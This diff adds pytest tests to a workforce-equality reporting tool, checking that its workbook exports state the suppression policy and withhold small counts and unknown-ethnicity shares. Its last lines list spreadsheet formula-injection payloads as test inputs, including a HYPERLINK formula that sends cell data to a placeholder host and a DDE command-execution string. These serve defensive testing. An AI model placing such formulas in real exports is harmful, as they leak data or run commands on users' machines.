@@ -304,6 +304,82 @@ def test_notes_in_the_workbook(built_safe):
     assert NOTES[3].action in ind3
 
 
+def _texts(wb) -> list[str]:
+    return [str(c.value) for ws in wb.worksheets for row in ws.iter_rows() for c in row
+            if c.value is not None]
+
+
+def test_methodology_sheet_states_the_policy_with_its_reasons_and_sources(built_safe):
+    """Issue 14: the workbook's methodology states the suppression policy in the methodology
+    page's own words (disclosure.POLICY_TEXT, one text), reasons and sources included."""
+    from wres_core.disclosure import POLICY_TEXT
+
+    texts = [c.value for row in built_safe[1]["Methodology"].iter_rows() for c in row
+             if c.value]
+    assert POLICY_TEXT and all(p in texts for p in POLICY_TEXT)
+    policy = " ".join(POLICY_TEXT)
+    for words in ("UK GDPR Article 9", "secondary suppression", "indicator 9",
+                  "Government Statistical Service", "unknown"):
+        assert words in policy
+
+
+def test_board_sheet_says_why_its_small_counts_are_shown(built_safe, unsafe):
+    from wres_core.disclosure.rules import BOARD_SHOWN_TEXT
+
+    assert BOARD_SHOWN_TEXT in _texts_of(built_safe[1]["Indicator 9"])
+    assert not any(BOARD_SHOWN_TEXT in t for ws in built_safe[1].worksheets
+                   if ws.title != "Indicator 9" for t in _texts_of(ws))
+    off = load_workbook(io.BytesIO(workbook_bytes(unsafe)))
+    assert BOARD_SHOWN_TEXT not in _texts_of(off["Indicator 9"])  # nothing is withheld
+
+
+def _texts_of(ws) -> list[str]:
+    return [str(c.value) for row in ws.iter_rows() for c in row if c.value is not None]
+
+
+# Every module that writes an export (the workbook, the evidence pack, the chart images and
+# the Export page). None prints the loader's findings today; one that does must pass them
+# through the same rule as the data-quality page and ``wres check``.
+EXPORT_MODULES = [*sorted((ROOT / "wres_core" / "exports").glob("*.py")),
+                  ROOT / "dashboard" / "pack.py", ROOT / "dashboard" / "pack_pay.py",
+                  ROOT / "dashboard" / "images.py", ROOT / "pages" / "export.py"]
+
+
+def test_exports_print_findings_only_through_publication_safe():
+    assert all(p.is_file() for p in EXPORT_MODULES) and len(EXPORT_MODULES) >= 9
+    for path in EXPORT_MODULES:
+        text = path.read_text(encoding="utf-8")
+        if re.search(r"\.findings\b", text):
+            assert "publication_safe(" in text, path
+
+
+def test_an_export_gives_back_no_unknown_count_the_table_withholds(tmp_path):
+    """By hand (test_cli.BESIDE_A_SMALL_GROUP): 40 White, 3 BME, 12 Unknown staff. The table
+    withholds the 3 and the 12 (55 - 40 - 12 = 3); the workbook's unknown-ethnicity caveat
+    must not print the 12 or its share (21.8%) in publication-safe mode, and does with
+    --suppress 0."""
+    from test_cli import BESIDE_A_SMALL_GROUP
+
+    (tmp_path / "workforce_2024.csv").write_text(BESIDE_A_SMALL_GROUP, encoding="utf-8")
+    engine = Engine.from_inputs([tmp_path / "workforce_2024.csv"])
+    safe = report_for(engine, Query())
+    [(year, share, unknown, staff, withheld)] = safe.unknown_shares()
+    assert (year, staff, withheld) == (2024, 55, True) and pd.isna(share) and pd.isna(unknown)
+    assert "2024: withheld" in safe.unknown_text()
+    built = build_workbook(safe)
+    wb = load_workbook(io.BytesIO(built.to_bytes()))
+    joined = "\n".join(_texts(wb))
+    assert "21.8%" not in joined and not re.search(r"\b(12|3) of 55\b", joined)
+    counts = [wb[sheet][coord].value for (sheet, coord), key in built.cells.items()
+              if key[-1] in ("numerator", "denominator")]
+    counts += [c.value for row in wb["Results"].iter_rows(min_row=RESULTS_FIRST_ROW + 1,
+                                                          min_col=7, max_col=8) for c in row]
+    assert 40 in counts and 55 in counts and not {3, 12} & set(counts)
+    full = report_for(engine, Query(suppress=0))
+    assert "2024: 21.8%" in full.unknown_text()  # 12 / 55 = 21.82%
+    assert "12" in _texts(load_workbook(io.BytesIO(workbook_bytes(full))))
+
+
 INJECTIONS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
               "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0", "#N/A"]
 
